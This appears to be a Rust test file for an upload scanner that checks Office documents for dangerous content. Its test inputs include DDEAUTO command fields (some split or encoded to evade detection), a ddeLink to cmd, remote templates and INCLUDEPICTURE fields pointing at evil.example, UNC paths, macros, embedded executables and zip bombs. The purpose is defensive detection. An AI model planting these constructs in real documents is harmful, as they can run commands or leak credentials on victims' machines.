//! Office files: what is taken as a document and nothing else, and what is kept from its reader.

use super::samples::{TEMPLATE, behind, long_words, noise, packed, photograph, sheet, word};
use super::uploads::danger;

/// Whatever the order of its parts and however long they are, a document is known as what it is.
#[test]
fn documents_of_other_writers_are_taken() {
    for document in long_words() {
        assert_eq!(danger("a.docx", &document), Ok(false));
        assert_eq!(danger("a.xlsx", &document), Err("file-wrong-type"));
    }
}

/// A field that is told only blanks is not read again for each field in it.
#[test]
fn blanks_before_fields_are_read_once() {
    let text = [
        b"<w><fldChar fldCharType=\"begin\"/><instrText>".to_vec(),
        vec![b' '; 2_000_000],
        b"</instrText>".to_vec(),
        b"<fldChar fldCharType=\"begin\"/><fldChar fldCharType=\"end\"/>".repeat(100_000),
        b"</w>".to_vec(),
    ];
    let document = word(&[("word/document.xml", &text.concat())]);
    assert_eq!(danger("a.docx", &document), Ok(true), "a field that hides what it is told");
}

#[test]
fn packed_documents_are_looked_into() {
    assert_eq!(danger("brev.docx", &word(&[])), Ok(false), "a link to a page is no harm");
    for (what, more) in [
        ("macros", ("word/vbaProject.bin", &b"x"[..])),
        ("an embedded object", ("word/embeddings/oleObject1.bin", b"x")),
        ("a control", ("word/activeX/activeX1.xml", b"<a/>")),
        ("a program", ("word/media/picture.exe", b"MZ")),
        ("a template from elsewhere", ("word/_rels/settings.xml.rels", TEMPLATE)),
        (
            "a type that says macros",
            (
                "[Content_Types].xml",
                b"<Types ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>",
            ),
        ),
        (
            "a hidden word",
            (
                "word/_rels/x.xml.rels",
                b"<Relationship TargetMode=\"&#69;xternal\" Type=\"x/frame\" Target=\"//a\"/>",
            ),
        ),
        ("another encoding", ("word/_rels/x.xml.rels", b"\xff\xfe<\0R\0")),
        ("an entity", ("word/_rels/x.xml.rels", b"<!DOCTYPE a [<!ENTITY b 'c'>]><a/>")),
        ("a command", ("word/document.xml", b"<w:instrText>DDEAUTO c:\\x</w:instrText>")),
    ] {
        assert_eq!(danger("brev.docx", &word(&[more])), Ok(true), "{what}");
    }
}

/// What a relationship is, its type alone says, however the element is written.
#[test]
fn relationships_are_read_as_xml() {
    const KIND: &str = "http://schemas.example/officeDocument/relationships";
    let judged = |element: &str| {
        let text = format!("<Relationships xmlns:p='u'>{element}</Relationships>");
        danger("brev.docx", &word(&[("word/_rels/x.xml.rels", text.as_bytes())]))
    };
    let out = "Target=\"https://evil.example/t\" TargetMode=\"External\"";
    for element in [
        format!("<Relationship\nType=\"{KIND}/frame\" {out}/>"),
        format!("<Relationship\tType=\"{KIND}/frame\" {out}/>"),
        format!("<p:Relationship Type=\"{KIND}/frame\" {out}/>"),
        format!("<Relationship Id=\"/hyperlink\" Type=\"{KIND}/frame\" {out}/>"),
        format!("<Relationship Id=\"a>b\" Type=\"{KIND}/frame\" {out}/>"),
        format!("<Relationship Type=\"{KIND}/fr&#97;me\" {out}/>"),
        format!("<Relationship Type=\"{KIND}/oleObject\" Target=\"x.bin\"/>"),
        format!("<Relationship Type=\"{KIND}/image\" Target=\"\\\\evil.example\\x.png\"/>"),
        "<Relationship".to_owned(),
    ] {
        assert_eq!(judged(&element), Ok(true), "{element}");
    }
    for element in [
        format!("<Relationship\nType=\"{KIND}/hyperlink\"\n{out}/>"),
        format!("<p:Relationship Type='{KIND}/hyperlink' {out}/>"),
        format!("<Relationship Type=\"{KIND}/image\" Target=\"media/image1.png\"/>"),
        "<!-- <Relationship TargetMode=\"External\"/> -->".to_owned(),
    ] {
        assert_eq!(judged(&element), Ok(false), "{element}");
    }
}

/// A field that starts a program, in whatever part and however many pieces; a link of a workbook to
/// a program.
#[test]
fn fields_and_links_that_start_programs_are_seen() {
    let run = |text: &str| format!("<w:r><w:instrText>{text}</w:instrText></w:r>");
    let mark = |kind: &str| format!("<w:r><w:fldChar w:fldCharType=\"{kind}\"/></w:r>");
    let (begin, end) = (mark("begin"), mark("end"));
    let part = |inner: &str| format!("<w:p xmlns:w=\"u\">{inner}</w:p>");
    let split = part(&[&*begin, &run("D"), &run("DEA"), &run("UTO c:\\x"), &end].concat());
    let inner = [&*begin, &run("QUOTE x"), &end].concat();
    let parted = part(&[&*begin, &run("DD"), &inner, &run("E cmd"), &end].concat());
    let hidden = part(&[&*begin, &inner, &run(" c:\\x"), &end].concat());
    let simple = part("<w:fldSimple w:instr=\" d&#100;e c:\\x\"/>");
    let plain = part(&[&*begin, &run(" HYPERLINK \"x\" HIDDEN "), &end, "DDE är ett ord"].concat());
    for name in ["word/document.xml", "word/header1.xml", "word/footnotes.xml", "word/a/b.xml"] {
        for (what, text) in
            [("split", &split), ("parted", &parted), ("hidden", &hidden), ("simple", &simple)]
        {
            let file = word(&[(name, text.as_bytes())]);
            assert_eq!(danger("brev.docx", &file), Ok(true), "{what} in {name}");
        }
        let file = word(&[(name, plain.as_bytes())]);
        assert_eq!(danger("brev.docx", &file), Ok(false), "harmless in {name}");
    }
    let elsewhere = word(&[("other/document.xml", split.as_bytes())]);
    assert_eq!(danger("brev.docx", &elsewhere), Ok(true), "a field where none belongs");
    assert_eq!(danger("blad.xlsx", &sheet(&[("xl/x.xml", b"<externalLink/>")])), Ok(false));
    let link = b"<externalLink><x:ddeLink ddeService=\"cmd\"/></externalLink>";
    let wide: Vec<u8> = link.iter().flat_map(|byte| [*byte, 0]).collect();
    let far = [&vec![b' '; 16 * 1024 - 20][..], link].concat();
    for (name, bytes) in [
        ("xl/externalLinks/externalLink1.xml", &link[..]),
        ("xl/other.bin", link),
        ("xl/wide.xml", &wide),
        ("xl/far.xml", &far),
    ] {
        assert_eq!(danger("blad.xlsx", &sheet(&[(name, bytes)])), Ok(true), "{name}");
    }
}

/// An element in what a field is told does not end it; what a field brings in from another machine is
/// seen, and what it reads on the writer's own is no harm.
#[test]
fn fields_are_heard_to_their_end() {
    let field = |told: &str| {
        let text = format!(
            "<w:p><w:fldChar w:fldCharType=\"begin\"/><w:instrText>{told}</w:instrText>\
             <w:fldChar w:fldCharType=\"end\"/></w:p>"
        );
        danger("brev.docx", &word(&[("word/document.xml", text.as_bytes())]))
    };
    for told in [
        "<mc:x/>DDEAUTO c:\\x",
        "D<mc:x>DE</mc:x>AUTO c:\\x",
        "INCLUDEPICTURE \"https://evil.example/a.png\" \\d",
        " includepicture https://evil.example/a.png",
        "INCLUDETEXT \"\\\\evil.example\\a.docx\"",
        "LINK Excel.Sheet.12 \"\\\\\\\\evil.example\\\\a\\\\b.xlsx\" Blad1",
        "RD file://evil.example/a.docx",
        "INCLUDETEXT \"</w:instrText><w:fldChar w:fldCharType=\"begin\"/>\
         <w:instrText>QUOTE x</w:instrText><w:fldChar w:fldCharType=\"end\"/><w:instrText>",
    ] {
        assert_eq!(field(told), Ok(true), "{told}");
    }
    for told in [
        "HYPERLINK \"https://vastervik.example/import\"",
        "INCLUDEPICTURE \"C:\\\\Bilder\\\\logga.png\" \\* MERGEFORMAT",
        "LINK Excel.Sheet.12 \"C:\\\\Users\\\\lena\\\\b.xlsx\" \"Blad1!R1C1\" \\a \\f 0",
        "INCLUDEPICTURE \"file:///C:\\Bilder\\logga.png\"",
        "TOC \\o \"1-3\" \\h \\z \\u",
    ] {
        assert_eq!(field(told), Ok(false), "{told}");
    }
}

/// A relationship to the workbook behind a chart, where charts have it.
const PACKAGE: &[u8] = b"<Relationships><Relationship Id=\"r1\" \
    Type=\"http://schemas.example/officeDocument/relationships/package\" \
    Target=\"../embeddings/Microsoft_Excel-kalkylblad1.xlsx\"/></Relationships>";

/// A chart brings its figures along in a workbook, which is looked into once; whatever else a file
/// holds that is a file of its own is kept away, wherever it lies and whatever it is called.
#[test]
fn a_chart_brings_its_figures_and_nothing_else() {
    let chart = |book: &[u8]| {
        let name = "word/embeddings/Microsoft_Excel-kalkylblad1.xlsx";
        danger("brev.docx", &word(&[(name, book), ("word/charts/_rels/chart1.xml.rels", PACKAGE)]))
    };
    let book = sheet(&[]);
    assert_eq!(chart(&book), Ok(false));
    let large = sheet(&[("xl/worksheets/sheet1.xml", &noise(6 * 1024 * 1024))]);
    assert_eq!(chart(&large), Ok(false), "many figures");
    let old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 macros";
    for (what, bytes) in [
        ("macros", sheet(&[("xl/vbaProject.bin", b"x")])),
        ("a workbook in the workbook", sheet(&[("xl/embeddings/a.xlsx", &book)])),
        ("a letter", word(&[])),
        ("no archive", b"x".to_vec()),
        ("an older workbook before it", behind(old, &book)),
        ("a page before it", behind(b"<html><script>", &book)),
        ("a list that does not fit", book[..book.len() - 1].to_vec()),
    ] {
        assert_eq!(chart(&bytes), Ok(true), "{what}");
    }
    for (name, bytes) in [
        ("word/figures/a.bin", &book[..]),
        ("word/media/image1.png", &book),
        ("word/media/image1.png", old),
        ("embeddings/a.bin", b"x"),
        ("activeX/a.xml", b"<a/>"),
        ("/word/embeddings/a.bin", b"x"),
        ("word/document.xml/[0].piece", b"<w:document>"),
    ] {
        assert_eq!(danger("brev.docx", &word(&[(name, bytes)])), Ok(true), "{name}");
    }
    let elsewhere = String::from_utf8_lossy(PACKAGE).replace("embeddings", "figures");
    let elsewhere = word(&[("word/_rels/x.xml.rels", elsewhere.as_bytes())]);
    assert_eq!(danger("brev.docx", &elsewhere), Ok(true), "a whole file somewhere else");
    for kind in ["macrosheet+xml", "intlmacrosheet+xml", "dialogsheet+xml"] {
        let types =
            format!("<Types><Override ContentType=\"application/vnd.ms-excel.{kind}\"/></Types>");
        let file =
            packed(&[("[Content_Types].xml", types.as_bytes()), ("xl/workbook.xml", b"<w/>")]);
        assert_eq!(danger("blad.xlsx", &file), Ok(true), "{kind}");
    }
    // Parts of all workbooks count together.
    let parts: Vec<String> = (0..1_900).map(|n| format!("xl/{n}")).collect();
    let parts: Vec<(&str, &[u8])> = parts.iter().map(|name| (name.as_str(), &b""[..])).collect();
    let full = sheet(&parts);
    for (count, found) in [(5, Ok(false)), (6, Err("file-unpacks-too-large"))] {
        let books: Vec<String> = (0..count).map(|n| format!("word/embeddings/{n}.xlsx")).collect();
        let books: Vec<(&str, &[u8])> = books.iter().map(|n| (n.as_str(), &full[..])).collect();
        assert_eq!(danger("brev.docx", &word(&books)), found, "{count} workbooks");
    }
}

/// What a document remembers of the writer's own disk is no harm; what another machine gives is.
#[test]
fn relationships_to_the_own_disk_are_no_harm() {
    let judged = |kind: &str, target: &str| {
        let text = format!(
            "<Relationships><Relationship Type=\"http://schemas.example/relationships/{kind}\" \
             Target=\"{target}\" TargetMode=\"External\"/></Relationships>"
        );
        danger("brev.docx", &word(&[("word/_rels/x.xml.rels", text.as_bytes())]))
    };
    for kind in ["attachedTemplate", "externalLinkPath"] {
        for target in [
            "C:/Mallar/brev.dotx",
            "file:///C:\\Mallar\\brev.dotx",
            "/Users/lena/Mallar/brev.dotx",
            "file://localhost/Users/lena/brev.dotx",
            "Normal.dotm",
        ] {
            assert_eq!(judged(kind, target), Ok(false), "{kind} {target}");
        }
        for target in [
            "file:////server/a.dotx",
            "file://localhost//server/a.dotx",
            "file:///server/a.dotx",
            "file://server/a.dotx",
            "//server/a.dotx",
            "\\\\server\\a.dotx",
            "https://evil.example/a.dotx",
        ] {
            assert_eq!(judged(kind, target), Ok(true), "{kind} {target}");
        }
    }
    for target in ["Budget 2021.xlsx", "../bok.xlsx"] {
        assert_eq!(judged("externalLinkPath", target), Ok(false), "{target}");
        assert_eq!(judged("frame", target), Ok(true), "{target}");
    }
    for kind in ["xlMacrosheet", "xlIntlMacrosheet", "dialogsheet"] {
        let text = format!(
            "<Relationships><Relationship Type=\"a/{kind}\" Target=\"x\"/></Relationships>"
        );
        let file = sheet(&[("xl/_rels/workbook.xml.rels", text.as_bytes())]);
        assert_eq!(danger("blad.xlsx", &file), Ok(true), "{kind}");
    }
}

/// A part's own head and the list say the same of it: some readers go by the one, some by the other.
#[test]
fn a_part_is_what_the_list_says() {
    let good = word(&[]);
    let end = good.len() - 22;
    let list = u32::from_le_bytes(good[end + 16..end + 20].try_into().unwrap()) as usize;
    for (what, at) in
        [("a name", 30), ("a method", 8), ("a lock", 6), ("a size", list + 24), ("a length", 26)]
    {
        let mut bytes = good.clone();
        bytes[at] ^= 1;
        assert_eq!(danger("a.docx", &bytes), Err("file-broken"), "{what}");
    }
    // The form for archives of gigabytes, which no letter needs.
    let locator = [&b"PK\x06\x07"[..], &[0; 16]].concat();
    let longer = [&good[..end], &locator, &good[end..]].concat();
    assert_eq!(danger("a.docx", &longer), Err("file-broken"));
    assert_eq!(danger("foto.jfif", &photograph()), Ok(false));
}

#[test]
fn archives_that_swell_or_lie_are_refused() {
    let zeros = vec![0u8; 101 * 1024 * 1024];
    let bomb = word(&[("word/media/image1.png", &zeros)]);
    assert!(bomb.len() < 200_000);
    assert_eq!(danger("bomb.docx", &bomb), Err("file-unpacks-too-large"));
    let rels = vec![b' '; 5 * 1024 * 1024];
    let swollen = word(&[("word/_rels/x.xml.rels", &rels)]);
    assert_eq!(danger("x.docx", &swollen), Err("file-unpacks-too-large"));
    let many: Vec<(String, Vec<u8>)> = (0..2_100).map(|n| (format!("word/{n}"), vec![1])).collect();
    let many: Vec<(&str, &[u8])> = many.iter().map(|(n, b)| (n.as_str(), b.as_slice())).collect();
    assert_eq!(danger("x.docx", &word(&many)), Err("file-broken"));
    let good = word(&[]);
    for cut in [good.len() - 1, good.len() - 22, good.len() / 2] {
        let result = danger("x.docx", &good[..cut]);
        assert!(matches!(result, Err("file-broken" | "file-wrong-type")), "{cut}: {result:?}");
    }
    let typeless = packed(&[("word/document.xml", b"<w:document/>")]);
    assert!(danger("x.docx", &typeless).is_err());
    // A sheet under the name of a document, and a plain archive under any.
    assert_eq!(danger("x.xlsx", &good), Err("file-wrong-type"));
    assert_eq!(danger("x.docx", &packed(&[("a.txt", b"x")])), Err("file-wrong-type"));
}

/// Every reader finds the same list at the end of an archive.
#[test]
fn an_archive_has_one_end() {
    let good = word(&[]);
    assert_eq!(danger("a.docx", &good), Ok(false));
    let broken = |what: &str, bytes: &[u8]| {
        assert_eq!(danger("a.docx", bytes), Err("file-broken"), "{what}");
    };
    let end = good.len() - 22;
    let changed = |at: usize, byte: u8| {
        let mut bytes = good.clone();
        bytes[at] = byte;
        bytes
    };
    broken("bytes after the end", &[&good[..], b"x"].concat());
    broken("a comment that is longer than it says", &[&changed(end + 20, 1)[..], b"xy"].concat());
    let with_comment = [&changed(end + 20, 22)[..], &good[end..]].concat();
    broken("two ends that fit", &with_comment);
    let hidden = [&changed(end + 20, 26)[..], &good[end..], b"abcd"].concat();
    broken("an end in the comment", &hidden);
    let plain = [&changed(end + 20, 2)[..], b"ok"].concat();
    assert_eq!(danger("a.docx", &plain), Ok(false), "a comment is no harm");
    broken("something between list and end", &[&good[..end], b"x", &good[end..]].concat());
    broken("a list that is longer than it is said to be", &changed(end + 10, 3));
}
